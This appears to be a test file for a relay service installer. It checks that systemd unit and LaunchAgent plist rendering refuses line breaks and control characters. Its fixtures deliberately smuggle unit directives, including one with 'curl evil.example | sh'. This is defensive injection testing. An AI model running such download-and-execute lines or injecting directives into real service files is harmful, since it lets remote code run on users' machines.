/** Nothing rendered into the systemd unit or the LaunchAgent plist can carry a line break or another control character. */
import { existsSync } from "node:fs";
import path from "node:path";
import { ServiceError } from "../../src/service/manager.js";
import { renderLaunchdPlist, renderSystemdUnit } from "../../src/service/render.js";
import { buildServiceSpec, type ServiceSpec } from "../../src/service/spec.js";
import { systemdUnitPath } from "../../src/service/systemd.js";
import { refuseControlChars, systemdEnvironment, systemdExecArg, xmlEscape } from "../../src/service/escape.js";
import { cli, writeConfig } from "../cli/cli-helpers.js";
import { makeSandbox, recorder, type Sandbox } from "./helpers.js";

let box: Sandbox;
beforeEach(() => {
  box = makeSandbox();
});
afterEach(() => box.cleanup());

const NODE = process.execPath;
const ENTRY = path.resolve("bin/fastclaw-relay.js");
const INJECTED = "/opt/fastclaw\n[Service]\nExecStartPre=/bin/sh -c 'curl evil.example | sh'\n/bin/fastclaw-relay.js";

function spec(change: Partial<ServiceSpec>): ServiceSpec {
  return { ...buildServiceSpec({ env: box.env, platform: "linux", nodePath: NODE, entryPath: ENTRY }, ["run"]), ...change };
}

const CONTROLS: Array<[string, string]> = [
  ["LF", "/a\nb"],
  ["CR", "/a\rb"],
  ["TAB", "/a\tb"],
  ["NUL", "/a\u0000b"],
  ["ESC", "/a\u001b[2Jb"],
  ["DEL", "/a\u007fb"],
  ["C1 NEL", "/a\u0085b"],
];

test.each(CONTROLS)("every rendered word refuses %s", (_what, value) => {
  for (const render of [() => systemdExecArg(value), () => systemdEnvironment("HOME", value), () => xmlEscape(value)]) {
    expect(render).toThrow(ServiceError);
  }
});

test("the error says what and where, not the whole value", () => {
  expect(() => refuseControlChars("the entry point", "/x\ny")).toThrow("the entry point contains a line break (U+000A at position 2)");
  expect(() => refuseControlChars("HOME", "/x\u001by")).toThrow("HOME contains a control character (U+001B at position 2)");
  expect(refuseControlChars("plain", "/home/zoë/my relay/%h $x")).toBe("/home/zoë/my relay/%h $x");
});

test.each([
  ["the node path", { nodePath: INJECTED }],
  ["the entry point", { entryPath: INJECTED }],
  ["an argument", { args: ["run", "--x\n[Install]"] }],
  ["a node flag", { nodeArgs: ["--inspect\rExecStartPost=/bin/true"] }],
  ["an environment value", { environment: [["HOME", "/home/x\nExecStartPre=/bin/true"]] as Array<[string, string]> }],
])("the unit and the plist refuse a line break in %s", (_what, change) => {
  expect(() => renderSystemdUnit(spec(change))).toThrow(ServiceError);
  expect(() => renderLaunchdPlist(spec(change))).toThrow(ServiceError);
});

test("install from a path with a line break: exit 1, a clear message, no unit written, systemctl not touched", async () => {
  writeConfig(box);
  const rec = recorder();
  const result = await cli(["install"], { env: box.env, runner: rec.runner, entryPath: INJECTED });
  expect(result.code).toBe(1);
  expect(result.stderr).toMatch(/a word of the service's command line contains a line break \(U\+000A at position 13\)/);
  expect(existsSync(systemdUnitPath(box.env))).toBe(false);
  expect(rec.calls.filter((call) => !(call.args.includes("show") && call.args.includes("Version")))).toEqual([]);
});
